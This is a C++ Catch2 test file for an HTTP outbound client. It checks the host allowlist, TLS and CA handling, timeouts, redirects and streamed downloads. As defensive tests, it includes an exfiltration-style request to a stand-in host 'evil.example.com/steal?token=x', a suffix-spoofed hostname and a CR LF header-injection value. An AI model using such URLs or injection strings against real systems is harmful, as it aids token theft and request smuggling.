#include "host/http/outbound_client.hpp"

#include <chrono>
#include <mutex>
#include <string>
#include <string_view>

#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <catch2/catch.hpp>

#include "tests/support/free_port.hpp"
#include "tests/support/temp_dir.hpp"
#include "tests/support/test_certificate.hpp"
#include "tests/support/tls_test_server.hpp"
#include "tests/support/quiet_logger.hpp"

namespace net = boost::asio;
using tcp = boost::asio::ip::tcp;
using host::http::OutboundClient;
using test_support::TestCertificate;
using test_support::TlsTestServer;
using namespace std::chrono_literals;

namespace {

constexpr const char* k_token = "shpat_0123456789abcdef";

host_api::OutboundRequest graphql_request(const std::string& url) {
    host_api::OutboundRequest request;
    request.url = url;
    request.headers = {{"X-Shopify-Access-Token", k_token}, {"Content-Type", "application/json"}};
    request.body = R"({"query":"{ shop { name } }","secret":"body-secret"})";
    request.timeout = 20s;
    return request;
}

// A port that accepts TCP connections (the kernel completes them into the backlog) but
// whose owner never reads, writes or accepts: a peer that never answers.
struct SilentListener {
    SilentListener() : acceptor(io, tcp::endpoint(net::ip::make_address("127.0.0.1"), 0)) {
        acceptor.non_blocking(true);
    }
    std::uint16_t port() const { return acceptor.local_endpoint().port(); }
    bool has_pending_connection() {
        tcp::socket socket(io);
        boost::system::error_code ec;
        acceptor.accept(socket, ec);
        return !ec;
    }
    net::io_context io;
    tcp::acceptor acceptor;
};

// Answers every request with `body` as a JSONL file; `body` must outlive the server.
TlsTestServer::Handler jsonl_file(const std::string& body) {
    return [&body](const host_api::HttpRequest&) {
        host_api::HttpResponse response;
        response.content_type = "application/jsonl";
        response.body = body;
        return response;
    };
}

// A GET of a bulk operation's file from `server`, trusting the CA written to `ca`.
host_api::OutboundRequest bulk_file_get(const TlsTestServer& server, const std::filesystem::path& ca) {
    auto request = graphql_request(server.url("/bulk/1.jsonl"));
    request.method = "GET";
    request.body.clear();
    request.ca_file = ca.string();
    return request;
}

void check_names_no_secret(const host_api::Error& error) {
    CHECK(error.message.find(k_token) == std::string::npos);
    CHECK(error.message.find("body-secret") == std::string::npos);
}

}  // namespace

TEST_CASE("a host outside outbound_hosts is refused before any connection, naming the host only", "[http][outbound]") {
    SilentListener listener;
    OutboundClient client({"*.myshopify.com", "api.novaposhta.ua"}, false, test_support::quiet_logger("outbound_client_test"));

    const auto loopback =
        client.send(graphql_request("https://127.0.0.1:" + std::to_string(listener.port()) + "/admin"));
    REQUIRE_FALSE(loopback.ok());
    CHECK_FALSE(loopback.error().transient);
    CHECK(loopback.error().message.find("127.0.0.1") != std::string::npos);
    check_names_no_secret(loopback.error());
    CHECK_FALSE(listener.has_pending_connection());

    const auto foreign = client.send(graphql_request("https://evil.example.com/steal?token=x"));
    REQUIRE_FALSE(foreign.ok());
    CHECK_FALSE(foreign.error().transient);
    CHECK(foreign.error().message.find("evil.example.com") != std::string::npos);
    CHECK(foreign.error().message.find("token=x") == std::string::npos);
    check_names_no_secret(foreign.error());

    const auto suffix_trick = client.send(graphql_request("https://shop.myshopify.com.evil.example.com/"));
    REQUIRE_FALSE(suffix_trick.ok());
    CHECK_FALSE(suffix_trick.error().transient);
}

TEST_CASE("plain http is refused to a declared host that is not loopback", "[http][outbound]") {
    OutboundClient client({"*.myshopify.com"}, true, test_support::quiet_logger("outbound_client_test"));
    const auto response = client.send(graphql_request("http://shop.myshopify.com/admin"));
    REQUIRE_FALSE(response.ok());
    CHECK_FALSE(response.error().transient);
    CHECK(response.error().message.find("https") != std::string::npos);
}

TEST_CASE("https to a server whose CA file is given succeeds, with request and response intact", "[http][outbound]") {
    const auto certificate = TestCertificate::generate();
    test_support::TempDir dir;
    certificate.write_ca(dir / "ca.pem");
    std::mutex mutex;
    host_api::HttpRequest seen;
    TlsTestServer server(certificate, [&](const host_api::HttpRequest& request) {
        std::lock_guard lock(mutex);
        seen = request;
        host_api::HttpResponse response;
        response.headers = {{"X-Shopify-API-Version", "2024-10"}};
        response.body = R"({"data":{"shop":{"name":"Demo"}}})";
        return response;
    });
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));

    for (const std::string host : {"localhost", "127.0.0.1"}) {
        INFO(host);
        auto request = graphql_request("https://" + host + ":" + std::to_string(server.port()) +
                                       "/admin/api/2024-10/graphql.json?x=1");
        request.ca_file = (dir / "ca.pem").string();
        const auto response = client.send(request);
        REQUIRE(response.ok());
        CHECK(response->status == 200);
        CHECK(response->header("x-shopify-api-version") == "2024-10");
        CHECK(response->body == R"({"data":{"shop":{"name":"Demo"}}})");
        std::lock_guard lock(mutex);
        CHECK(seen.method == "POST");
        CHECK(seen.path == "/admin/api/2024-10/graphql.json");
        CHECK(seen.query == "x=1");
        CHECK(seen.header("X-Shopify-Access-Token") == k_token);
        CHECK(seen.body == request.body);
    }
}

TEST_CASE("without the server's CA the certificate is not trusted, and the error says so", "[http][outbound]") {
    const auto certificate = TestCertificate::generate();
    TlsTestServer server(certificate, [](const host_api::HttpRequest&) { return host_api::HttpResponse{}; });
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));

    const auto response = client.send(graphql_request(server.url("/admin")));
    REQUIRE_FALSE(response.ok());
    CHECK(response.error().message.find("certificate") != std::string::npos);
    CHECK(response.error().message.find("127.0.0.1:" + std::to_string(server.port())) != std::string::npos);
    check_names_no_secret(response.error());
    CHECK(server.requests() == 0);
}

// The client keeps a TLS context per CA file (reading a CA file cost more than the
// handshake); the local Shopify writes a new CA file each time it starts.
TEST_CASE("a CA file replaced between two requests is read again", "[http][outbound]") {
    const auto first = TestCertificate::generate();
    const auto second = TestCertificate::generate();
    test_support::TempDir dir;
    const auto ca = dir / "ca.pem";
    const auto answer_ok = [](const host_api::HttpRequest&) { return host_api::HttpResponse{}; };
    TlsTestServer first_server(first, answer_ok);
    TlsTestServer second_server(second, answer_ok);
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    const auto get = [&](const TlsTestServer& server) {
        auto request = graphql_request(server.url("/"));
        request.ca_file = ca.string();
        return client.send(request);
    };

    first.write_ca(ca);
    CHECK(get(first_server).ok());
    CHECK(get(first_server).ok());  // the kept context
    second.write_ca(ca);
    CHECK(get(second_server).ok());
    const auto refused = get(first_server);
    REQUIRE_FALSE(refused.ok());
    CHECK(refused.error().message.find("certificate") != std::string::npos);
}

TEST_CASE("a certificate for another name fails host name verification", "[http][outbound]") {
    const auto certificate = TestCertificate::generate("DNS:other.example");
    test_support::TempDir dir;
    certificate.write_ca(dir / "ca.pem");
    TlsTestServer server(certificate, [](const host_api::HttpRequest&) { return host_api::HttpResponse{}; });
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));

    for (const std::string host : {"localhost", "127.0.0.1"}) {
        INFO(host);
        auto request = graphql_request("https://" + host + ":" + std::to_string(server.port()) + "/");
        request.ca_file = (dir / "ca.pem").string();
        const auto response = client.send(request);
        REQUIRE_FALSE(response.ok());
        CHECK(response.error().message.find("mismatch") != std::string::npos);
    }
    CHECK(server.requests() == 0);
}

TEST_CASE("a missing CA file is a permanent error naming the file", "[http][outbound]") {
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    auto request = graphql_request("https://127.0.0.1:1/");
    request.ca_file = "/nonexistent/ca.pem";
    const auto response = client.send(request);
    REQUIRE_FALSE(response.ok());
    CHECK_FALSE(response.error().transient);
    CHECK(response.error().message.find("/nonexistent/ca.pem") != std::string::npos);
}

TEST_CASE("redirects and error statuses are responses, not followed and not errors", "[http][outbound]") {
    const auto certificate = TestCertificate::generate();
    test_support::TempDir dir;
    certificate.write_ca(dir / "ca.pem");
    TlsTestServer server(certificate, [](const host_api::HttpRequest& request) {
        host_api::HttpResponse response;
        response.status = request.path == "/moved" ? 302 : 429;
        response.headers = {{"Location", "https://127.0.0.1:1/elsewhere"}, {"Retry-After", "2"}};
        return response;
    });
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));

    auto moved = graphql_request(server.url("/moved"));
    moved.ca_file = (dir / "ca.pem").string();
    const auto redirect = client.send(moved);
    REQUIRE(redirect.ok());
    CHECK(redirect->status == 302);
    CHECK(redirect->header("Location") == "https://127.0.0.1:1/elsewhere");

    auto throttled = graphql_request(server.url("/throttled"));
    throttled.ca_file = (dir / "ca.pem").string();
    const auto too_many = client.send(throttled);
    REQUIRE(too_many.ok());
    CHECK(too_many->status == 429);
    CHECK(server.requests() == 2);
}

TEST_CASE("a refused connection is a transient error", "[http][outbound]") {
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    const auto port = test_support::free_loopback_port();
    for (const std::string scheme : {"http", "https"}) {
        INFO(scheme);
        const auto response = client.send(graphql_request(scheme + "://127.0.0.1:" + std::to_string(port) + "/"));
        REQUIRE_FALSE(response.ok());
        CHECK(response.error().transient);
        CHECK(response.error().message.find("refused") != std::string::npos);
        check_names_no_secret(response.error());
    }
}

TEST_CASE("a peer that never answers is a transient timeout after about the request's timeout", "[http][outbound]") {
    SilentListener listener;
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    for (const std::string scheme : {"http", "https"}) {
        INFO(scheme);
        auto request = graphql_request(scheme + "://127.0.0.1:" + std::to_string(listener.port()) + "/");
        request.timeout = 500ms;
        const auto started = std::chrono::steady_clock::now();
        const auto response = client.send(request);
        const auto elapsed = std::chrono::steady_clock::now() - started;
        REQUIRE_FALSE(response.ok());
        CHECK(response.error().transient);
        CHECK(response.error().message.find("timed out") != std::string::npos);
        CHECK(elapsed >= 450ms);
        CHECK(elapsed < 15s);
    }
}

TEST_CASE("a header value with CR LF is refused without echoing it", "[http][outbound]") {
    SilentListener listener;
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    auto request = graphql_request("http://127.0.0.1:" + std::to_string(listener.port()) + "/");
    request.headers.emplace_back("X-Evil", std::string(k_token) + "\r\nInjected: 1");
    const auto response = client.send(request);
    REQUIRE_FALSE(response.ok());
    CHECK_FALSE(response.error().transient);
    CHECK(response.error().message.find("X-Evil") != std::string::npos);
    check_names_no_secret(response.error());
    CHECK_FALSE(listener.has_pending_connection());
}

// R8: the initial import's file goes to disk as it arrives, never held whole in memory.
TEST_CASE("R8 a body sink gets a successful answer's body piece by piece, past the limit a kept body has",
          "[http][outbound]") {
    const auto certificate = TestCertificate::generate();
    test_support::TempDir dir;
    certificate.write_ca(dir / "ca.pem");
    std::string large(64 * 1024 * 1024 + 1, 'x');
    large.back() = 'y';
    TlsTestServer server(certificate, jsonl_file(large));
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    auto request = bulk_file_get(server, dir / "ca.pem");
    request.timeout = 120s;  // 64 MiB over TLS, twice, on a shared machine or under sanitizers

    const auto kept = client.send(request);
    REQUIRE_FALSE(kept.ok());
    CHECK(kept.error().message.find("larger than 67108864 bytes") != std::string::npos);

    std::size_t pieces = 0;
    std::size_t bytes = 0;
    bool same = true;
    request.body_sink = [&](std::string_view piece) {
        same = same && piece == std::string_view(large).substr(bytes, piece.size());
        bytes += piece.size();
        ++pieces;
        return true;
    };
    const auto sunk = client.send(request);
    REQUIRE(sunk.ok());
    CHECK(sunk->status == 200);
    CHECK(sunk->body.empty());
    CHECK(bytes == large.size());
    CHECK(same);
    CHECK(pieces > 1);
}

// Beast reads no more than its buffer has room for: from an empty buffer that was 512 bytes
// a read, each a round through TLS and the parser, most of a bulk file's download time.
TEST_CASE("R8 a large answer comes in reads of kilobytes, not of 512 bytes", "[http][outbound]") {
    const auto certificate = TestCertificate::generate();
    test_support::TempDir dir;
    certificate.write_ca(dir / "ca.pem");
    const std::string file(4 * 1024 * 1024, 'x');
    TlsTestServer server(certificate, jsonl_file(file));
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    auto request = bulk_file_get(server, dir / "ca.pem");
    std::size_t pieces = 0;
    std::size_t bytes = 0;
    request.body_sink = [&](std::string_view piece) {
        bytes += piece.size();
        ++pieces;
        return true;
    };
    const auto sunk = client.send(request);
    REQUIRE(sunk.ok());
    CHECK(bytes == file.size());
    CHECK(pieces <= file.size() / 4096);  // a TLS record holds up to 16 KiB
}

TEST_CASE("R8 an error answer's body is kept in the response, not handed to the body sink", "[http][outbound]") {
    const auto certificate = TestCertificate::generate();
    test_support::TempDir dir;
    certificate.write_ca(dir / "ca.pem");
    TlsTestServer server(certificate, [](const host_api::HttpRequest&) {
        host_api::HttpResponse response;
        response.status = 416;
        response.body = R"({"error":"range not satisfiable"})";
        return response;
    });
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    auto request = graphql_request(server.url("/bulk/1.jsonl"));
    request.ca_file = (dir / "ca.pem").string();
    bool sunk = false;
    request.body_sink = [&](std::string_view) { return sunk = true; };
    const auto answer = client.send(request);
    REQUIRE(answer.ok());
    CHECK(answer->status == 416);
    CHECK(answer->body == R"({"error":"range not satisfiable"})");
    CHECK_FALSE(sunk);
}

TEST_CASE("R8 a body sink that cannot take more fails the request, saying the answer could not be stored",
          "[http][outbound]") {
    const auto certificate = TestCertificate::generate();
    test_support::TempDir dir;
    certificate.write_ca(dir / "ca.pem");
    TlsTestServer server(certificate, [](const host_api::HttpRequest&) {
        host_api::HttpResponse response;
        response.body = std::string(1024 * 1024, 'x');
        return response;
    });
    OutboundClient client({}, true, test_support::quiet_logger("outbound_client_test"));
    auto request = graphql_request(server.url("/bulk/1.jsonl"));
    request.ca_file = (dir / "ca.pem").string();
    request.body_sink = [](std::string_view) { return false; };  // a full disk
    const auto answer = client.send(request);
    REQUIRE_FALSE(answer.ok());
    CHECK(answer.error().message.find("could not be stored") != std::string::npos);
    check_names_no_secret(answer.error());
}
